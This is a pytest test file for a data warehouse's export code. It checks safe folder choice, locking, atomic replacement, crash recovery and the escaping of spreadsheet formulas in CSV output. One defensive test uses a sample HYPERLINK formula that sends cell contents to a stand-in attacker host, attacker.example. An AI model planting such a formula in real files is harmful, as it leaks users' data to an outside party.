"""Exports: where a run may write them, one run at a time, always whole, and safe to open in a spreadsheet."""

from __future__ import annotations

import errno
import hashlib
import json
import os
import re
import shutil
import sys
import threading
from pathlib import Path

import duckdb
import pytest

from eventdw import export
from tests.conftest import acled_csv, acled_parquet

CHOOSE = "choose an empty or new folder"
on_linux = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="renameat2 is Linux's")


def _files(folder: Path) -> dict[str, bytes]:
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def _manifest(folder: Path) -> dict:
    return json.loads((folder / "manifest.json").read_text())


def _assert_manifest_is_true(folder: Path) -> None:
    """The manifest lists every file of the export, and only those, with their true hashes."""
    listed = {entry["path"]: entry["sha256"] for entry in _manifest(folder)["files"]}
    present = {path: hashlib.sha256(data).hexdigest() for path, data in _files(folder).items()}
    del present["manifest.json"]
    assert present == listed


def _names(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


@pytest.fixture()
def warehouse_copy(seed_run, tmp_path) -> Path:
    """A copy of the seed run's warehouse, to change or to lose."""
    copy = tmp_path / "warehouse" / "eventdw.duckdb"
    copy.parent.mkdir()
    with duckdb.connect(str(seed_run.warehouse)) as con:
        con.execute("checkpoint")  # the whole warehouse in its file, none of it in a write-ahead log
    shutil.copy(seed_run.warehouse, copy)
    return copy


# 1. An export replaces only a folder it wrote itself.


def test_export_refuses_a_folder_it_did_not_write_and_leaves_it_as_it_was(seed_run, tmp_path):
    inputs = tmp_path / "inputs"
    (inputs / "extractions").mkdir(parents=True)
    (inputs / "extractions" / "coder.csv").write_text("article_id,event_date\n")
    message = (
        rf"^the exports folder {re.escape(str(inputs))} holds files eventdw did not write "
        rf"\(no eventdw manifest\.json\): {CHOOSE}$"
    )
    with pytest.raises(export.ExportError, match=message):
        export.export_marts(seed_run.warehouse, inputs, "run")
    assert _files(inputs) == {"extractions/coder.csv": b"article_id,event_date\n"}
    assert _names(tmp_path) == ["inputs"]


def test_export_refuses_the_folder_that_holds_the_warehouse(warehouse_copy):
    size = warehouse_copy.stat().st_size
    folder = warehouse_copy.parent
    with pytest.raises(export.ExportError, match=rf"would replace the warehouse {re.escape(str(warehouse_copy))}: "):
        export.export_marts(warehouse_copy, folder, "run")
    assert _names(folder) == ["eventdw.duckdb"] and warehouse_copy.stat().st_size == size


def test_export_refuses_an_export_holding_a_file_its_manifest_does_not_list(seed_run, tmp_path):
    exports = tmp_path / "exports"
    export.export_marts(seed_run.warehouse, exports, "first")
    (exports / "my_notes.txt").write_text("keep me")
    with pytest.raises(
        export.ExportError, match=r"holds my_notes\.txt, which its eventdw manifest\.json does not list"
    ):
        export.export_marts(seed_run.warehouse, exports, "second")
    assert (exports / "my_notes.txt").read_text() == "keep me" and _manifest(exports)["run_id"] == "first"


@pytest.fixture()
def project(tmp_path, tmp_path_factory, monkeypatch) -> Path:
    """The current folder: seeds/, warehouse/eventdw.duckdb, a file, a folder of other files; HOME elsewhere."""
    root = tmp_path / "project"
    (root / "seeds" / "extractions").mkdir(parents=True)
    (root / "seeds" / "extractions" / "coder.csv").write_text("article_id\n")
    (root / "seeds-link").symlink_to(root / "seeds")
    (root / "warehouse").mkdir()
    (root / "warehouse" / "eventdw.duckdb").write_bytes(b"")
    (root / "notes.txt").write_text("notes")
    (root / "data").mkdir()
    (root / "data" / "table.csv").write_text("a\n")
    monkeypatch.setenv("HOME", str(tmp_path_factory.mktemp("home")))
    monkeypatch.chdir(root)
    return root


@pytest.mark.parametrize(
    ("exports_dir", "message"),
    [
        (".", r"the exports folder \. would replace the current folder .*/project: "),
        ("", r"the exports folder \. would replace the current folder .*/project: "),
        ("..", r"the exports folder \.\. would replace the current folder .*/project: "),
        ("/", r"the exports folder / is the filesystem root: "),
        ("{home}", r"the exports folder .*/home\d* would replace your home folder .*/home\d*: "),
        ("seeds", r"the exports folder seeds would replace the seeds folder seeds: "),
        ("seeds-link", r"the exports folder seeds-link would replace the seeds folder seeds: "),
        ("seeds/exports", r"the exports folder seeds/exports is inside the seeds folder seeds: .* outside it$"),
        ("warehouse", r"the exports folder warehouse would replace the warehouse warehouse/eventdw\.duckdb: "),
        ("warehouse/eventdw.duckdb", r"would replace the warehouse warehouse/eventdw\.duckdb: "),
        ("warehouse/eventdw.dbt", r"would replace or sits inside .*/warehouse/eventdw\.dbt, which the warehouse "),
        ("warehouse/eventdw.duckdb.dbt", r"would replace or sits inside .*/warehouse/eventdw\.duckdb\.dbt, "),
        ("warehouse/eventdw.duckdb.tmp", r"would replace or sits inside .*/warehouse/eventdw\.duckdb\.tmp, "),
        ("warehouse/eventdw.duckdb.lock", r"would replace or sits inside .*/warehouse/eventdw\.duckdb\.lock, "),
        ("warehouse/eventdw.dbt/exports", r"would replace or sits inside .*/warehouse/eventdw\.dbt, "),
        ("notes.txt", r"the exports folder notes\.txt is not a folder: "),
        ("data", r"the exports folder data holds files eventdw did not write \(no eventdw manifest\.json\): "),
        ("exp\0orts", r"the exports folder path 'exp\\x00orts' holds a NUL or line-break character: "),
        ("exp\norts", r"the exports folder path 'exp\\norts' holds a NUL or line-break character: "),
    ],
)
def test_check_exports_dir_refuses_a_place_a_run_must_not_replace_in_one_line(project, exports_dir, message):
    with pytest.raises(export.ExportError, match=message) as refused:
        exports_dir = exports_dir.replace("{home}", os.environ["HOME"])
        export.check_exports_dir(Path(exports_dir), Path("seeds"), Path("warehouse/eventdw.duckdb"))
    assert "\n" not in str(refused.value) and str(refused.value).endswith(("folder", "outside it"))
    assert _files(project / "seeds") == {"extractions/coder.csv": b"article_id\n"}


def test_check_exports_dir_accepts_a_new_an_empty_and_an_eventdw_folder(seed_run, tmp_path):
    seeds, warehouse = tmp_path / "seeds", tmp_path / "warehouse" / "eventdw.duckdb"
    (tmp_path / "empty").mkdir()
    export.export_marts(seed_run.warehouse, tmp_path / "written", "run")
    # An export written before manifests named their producer: schema 1, its run id, tables and files.
    export.export_marts(seed_run.warehouse, tmp_path / "older", "run")
    older = _manifest(tmp_path / "older")
    del older["producer"]
    older["schema_version"] = "1"
    (tmp_path / "older" / "manifest.json").write_text(json.dumps(older))
    for folder in ("new", "new/exports", "empty", "written", "older"):
        export.check_exports_dir(tmp_path / folder, seeds, warehouse)
    export.export_marts(seed_run.warehouse, tmp_path / "older", "again")
    assert _manifest(tmp_path / "older")["producer"] == "eventdw"


# 2. One export at a time per folder; staging folders of dead runs go.


def test_a_second_export_to_a_folder_being_written_fails_at_once_naming_the_holder(
    seed_run, warehouse_copy, tmp_path, monkeypatch
):
    exports = tmp_path / "exports"
    writing, release, failures = threading.Event(), threading.Event(), []
    write = export._write

    def slow_write(*args, **kwargs):
        if args[2] == "second":  # the run id
            writing.set()
            release.wait(60)
        return write(*args, **kwargs)

    def second_run():
        try:
            export.export_marts(warehouse_copy, exports, "second")
        except BaseException as error:
            failures.append(error)

    monkeypatch.setattr(export, "_write", slow_write)
    thread = threading.Thread(target=second_run)
    thread.start()
    try:
        assert writing.wait(60)
        busy = (
            rf"^the exports folder {re.escape(str(exports))} is being written by another run "
            rf"\(pid {os.getpid()}, since \d{{4}}-\d\d-\d\d \d\d:\d\d:\d\d UTC\): "
            r"wait for it to finish, or choose another folder$"
        )
        with pytest.raises(export.ExportsBusy, match=busy):
            export.export_marts(seed_run.warehouse, exports, "third")
    finally:
        release.set()
        thread.join(60)
    assert failures == []
    assert _manifest(exports)["run_id"] == "second"
    _assert_manifest_is_true(exports)
    assert _names(tmp_path) == ["exports", "warehouse"]  # no lock file, no staging folder left


def test_export_deletes_the_staging_folders_of_dead_runs(seed_run, tmp_path):
    exports = tmp_path / "exports"
    export.export_marts(seed_run.warehouse, exports, "first")
    for dead in (".exports.incoming-deadrun", ".exports.incoming"):
        (tmp_path / dead / "fact_events").mkdir(parents=True)
        (tmp_path / dead / "fact_events" / "part_0.parquet").write_bytes(b"half")
    export.export_marts(seed_run.warehouse, exports, "second")
    assert _names(tmp_path) == ["exports"]
    _assert_manifest_is_true(exports)


# 3. A reader always finds a whole export.


@on_linux
def test_exchange_swaps_two_folders_in_one_step(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "file").write_text("a")
    (tmp_path / "b").mkdir()
    (tmp_path / "b" / "file").write_text("b")
    assert export._exchange(tmp_path / "a", tmp_path / "b") is True
    assert ((tmp_path / "a" / "file").read_text(), (tmp_path / "b" / "file").read_text()) == ("b", "a")


@on_linux
def test_export_swaps_in_the_new_export_without_ever_moving_the_live_one_away(seed_run, tmp_path, monkeypatch):
    exports = tmp_path / "exports"
    export.export_marts(seed_run.warehouse, exports, "first")
    renamed_from, rename = [], os.rename

    def recording_rename(source, target, **kwargs):
        renamed_from.append(Path(source))
        rename(source, target, **kwargs)

    monkeypatch.setattr(os, "rename", recording_rename)
    export.export_marts(seed_run.warehouse, exports, "second")
    assert exports not in renamed_from
    assert _manifest(exports)["run_id"] == "second"
    _assert_manifest_is_true(exports)
    assert _names(tmp_path) == ["exports"]


def test_without_renameat2_the_export_is_still_replaced_whole(seed_run, tmp_path, monkeypatch):
    monkeypatch.setattr(export, "_exchange", lambda first, second: False)
    exports = tmp_path / "exports"
    export.export_marts(seed_run.warehouse, exports, "first")
    export.export_marts(seed_run.warehouse, exports, "second")
    assert _manifest(exports)["run_id"] == "second"
    _assert_manifest_is_true(exports)
    assert _names(tmp_path) == ["exports"]


def _crash_between_the_renames(seed_run, tmp_path: Path) -> dict[str, bytes]:
    """The state a kill -9 leaves between the two renames of the fallback swap; the old export's files."""
    exports = tmp_path / "exports"
    export.export_marts(seed_run.warehouse, exports, "first")
    before = _files(exports)
    shutil.copytree(exports, tmp_path / ".exports.incoming-second")
    exports.rename(tmp_path / ".exports.previous")
    return before


def test_next_export_puts_back_the_previous_export_a_crash_left_without_a_live_one(seed_run, tmp_path, monkeypatch):
    before = _crash_between_the_renames(seed_run, tmp_path)

    def full_disk(folder):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(folder))

    # (The marts are those of the export put back: its data files are linked, only the descriptions written.)
    monkeypatch.setattr(export, "datapackage", full_disk)
    with pytest.raises(export.ExportError):
        export.export_marts(seed_run.warehouse, tmp_path / "exports", "third")
    assert _files(tmp_path / "exports") == before
    assert _names(tmp_path) == ["exports"]


def test_recover_exports_puts_back_the_previous_export_for_a_reader(seed_run, tmp_path):
    before = _crash_between_the_renames(seed_run, tmp_path)
    assert export.recover_exports(tmp_path / "exports") is True
    assert _files(tmp_path / "exports") == before
    assert export.recover_exports(tmp_path / "exports") is False
    assert ".exports.previous" not in _names(tmp_path)
    assert export.recover_exports(tmp_path / "never" / "exports") is False
    assert not (tmp_path / "never").exists()


# 4. A symlinked exports folder.


def test_two_exports_in_a_row_through_a_symlinked_exports_folder(seed_run, tmp_path):
    real = tmp_path / "disk" / "eventdw-exports"
    real.mkdir(parents=True)
    link = tmp_path / "exports"
    link.symlink_to(real, target_is_directory=True)
    for run_id in ("first", "second"):
        export.export_marts(seed_run.warehouse, link, run_id)
    assert link.is_symlink() and link.resolve() == real
    assert _manifest(link)["run_id"] == "second"
    _assert_manifest_is_true(link)
    assert _names(tmp_path) == ["disk", "exports"] and _names(tmp_path / "disk") == ["eventdw-exports"]


# 5. Paths in SQL.


def test_export_writes_to_a_folder_whose_name_holds_a_single_quote(seed_run, tmp_path):
    exports = tmp_path / "it's exports"
    rows = export.export_marts(seed_run.warehouse, exports, "run")
    _assert_manifest_is_true(exports)
    assert len(acled_csv(exports)[1]) == rows["acled_events"] == seed_run.events


# 6. CSV cells that a spreadsheet would run as formulas.


def test_csv_text_cells_that_start_a_formula_get_a_quote_and_parquet_keeps_them(warehouse_copy, tmp_path):
    hyperlink = '=HYPERLINK("http://attacker.example/?leak="&A1, "details")'
    with duckdb.connect(str(warehouse_copy)) as con:
        (event_id,) = con.execute("select min(event_id_cnty) from marts.acled_events").fetchone()
        con.execute(
            "update marts.acled_events set notes = ?, actor1 = ?, tags = ?, longitude = -12.5 where event_id_cnty = ?",
            [hyperlink, "@SUM(1)", "\t=1+1", event_id],
        )
    exports = tmp_path / "exports"
    export.export_marts(warehouse_copy, exports, "run")

    rows = {row["event_id_cnty"]: row for row in acled_csv(exports)[1]}
    parquet = {row["event_id_cnty"]: row for row in acled_parquet(exports)}
    changed = rows.pop(event_id)
    assert (changed["notes"], changed["actor1"], changed["tags"]) == ("'" + hyperlink, "'@SUM(1)", "'\t=1+1")
    assert changed["longitude"] == "-12.5"
    assert (parquet[event_id]["notes"], parquet[event_id]["actor1"], parquet[event_id]["tags"]) == (
        hyperlink,
        "@SUM(1)",
        "\t=1+1",
    )
    assert parquet[event_id]["longitude"] == -12.5
    assert all(row["notes"] == parquet[key]["notes"] for key, row in rows.items())  # the other rows as they are
    _assert_manifest_is_true(exports)


# 7. A full disk.


def test_a_full_disk_is_one_line_naming_the_folder_and_keeps_the_previous_export(seed_run, tmp_path, monkeypatch):
    exports = tmp_path / "exports"
    export.export_marts(seed_run.warehouse, exports, "first")
    before = _files(exports)

    def full_disk(batches, folder, date):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(folder / "year=2024"))

    monkeypatch.setattr(export, "_reusable_parts", lambda previous: {})  # every file written, none linked
    monkeypatch.setattr(export, "_write_month_partitions", full_disk)
    with pytest.raises(export.ExportError) as failed:
        export.export_marts(seed_run.warehouse, exports, "second")
    assert str(failed.value) == f"cannot write the export to {exports}: No space left on device"
    assert _files(exports) == before
    assert _names(tmp_path) == ["exports"]


def test_a_duckdb_write_failure_is_one_line_naming_the_folder_and_keeps_the_previous_export(
    seed_run, tmp_path, monkeypatch
):
    exports = tmp_path / "exports"
    export.export_marts(seed_run.warehouse, exports, "first")
    before = _files(exports)
    write_partitions = export._write_month_partitions

    def block_dim_actor(batches, folder, date):
        (folder.parent / "dim_actor.parquet").mkdir(exist_ok=True)  # DuckDB's COPY cannot open it as a file
        write_partitions(batches, folder, date)

    monkeypatch.setattr(export, "_reusable_parts", lambda previous: {})  # every file written, none linked
    monkeypatch.setattr(export, "_write_month_partitions", block_dim_actor)
    with pytest.raises(export.ExportError) as failed:
        export.export_marts(seed_run.warehouse, exports, "second")
    assert str(failed.value) == f"cannot write the export to {exports}: Is a directory"
    assert _files(exports) == before
    assert _names(tmp_path) == ["exports"]
